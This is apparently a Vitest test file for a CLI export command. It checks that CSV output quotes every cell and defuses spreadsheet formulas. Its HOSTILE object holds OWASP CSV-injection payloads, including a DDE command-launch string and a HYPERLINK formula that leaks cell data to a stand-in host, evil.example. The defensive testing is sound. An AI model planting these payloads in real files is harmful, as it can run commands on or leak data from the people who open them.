import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell } from '../../../src/cli/requests';
import { png, simpleRequest, startTestServer, submit, uploadedName, type TestServer } from '../../server/helpers';

let server: TestServer;
let reference: string;

/** What an attacker types, field by field (OWASP CSV-injection payloads). */
const HOSTILE = {
  last_name: '=HYPERLINK("x")',
  phone_number: "-1+cmd|' /C calc'!A0",
  phone_number2: '+31 6 12345678',
  type: '-(1)+1',
  serial_number: '@SUM(A1)',
  description: '\t+1+HYPERLINK("http://evil.example/?leak="&A1)',
  purchase_date: '=1+1',
};

beforeAll(async () => {
  server = await startTestServer();
  const photo = await png();
  const [image1, image2] = [await uploadedName(server.url, photo, 'a.png', 'image/png'), await uploadedName(server.url, photo, 'b.png', 'image/png')];
  const res = await submit(server.url, 'hanant', { ...simpleRequest(image1, image2), ...HOSTILE, brand: 'Senza Nome' });
  expect(res.status).toBe(201);
  reference = ((await res.json()) as { reference: string }).reference;
});
afterAll(() => server.dispose());

function exportRequests(...args: string[]): string {
  return execFileSync(process.execPath, ['--import', 'tsx', join(process.cwd(), 'src/cli/requests.ts'), 'export', ...args], {
    env: { ...process.env, DATA_DIR: server.dataDir, DATABASE_URL: server.config.databaseUrl },
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'ignore'],
  });
}

/** Reads CSV as a spreadsheet does (RFC 4180), and checks every cell was quoted. */
function parseCsv(text: string, separator: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    expect(text[at]).toBe('"');
    let cell = '';
    at++;
    for (;;) {
      const quote = text.indexOf('"', at);
      cell += text.slice(at, quote);
      at = quote + 1;
      if (text[at] !== '"') break;
      cell += '"';
      at++;
    }
    row.push(cell);
    if (text[at] === separator) at++;
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n');
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe('npm run requests -- export', () => {
  it('writes stored requests as JSON lines', () => {
    const [line, ...rest] = exportRequests().trim().split('\n');
    expect(rest).toEqual([]);
    expect(JSON.parse(line)).toMatchObject({ reference, brand_id: 'hanant', locale: 'nl', brand: 'Senza Nome', type: HOSTILE.type });
  });

  it.each([
    [',', []],
    [';', ['--separator', ';']],
  ])('writes CSV separated by "%s", every cell quoted and no cell a formula', (separator, args) => {
    const [header, row, ...rest] = parseCsv(exportRequests('--format', 'csv', ...args), separator);
    expect(rest).toEqual([]);
    expect(header.slice(0, 6)).toEqual(['reference', 'created_at', 'brand_id', 'variant', 'locale', 'last_name']);
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('reference')).toBe(reference);
    for (const [field, typed] of Object.entries(HOSTILE)) expect(cell(field)).toBe(`'${typed}`);
    // Readable as typed, behind the apostrophe a spreadsheet shows as text.
    expect(cell('phone_number2')).toBe("'+31 6 12345678");
    expect(cell('postal_code')).toBe('1234 AB');
    for (const value of row) expect(value).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('defuses a cell starting with a carriage return, and quotes what is plain', () => {
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(12)).toBe('"12"');
    expect(csvCell(undefined)).toBe('""');
  });

  it('refuses a separator a spreadsheet would not expect', () => {
    expect(() => exportRequests('--format', 'csv', '--separator', '"')).toThrow();
  });
});
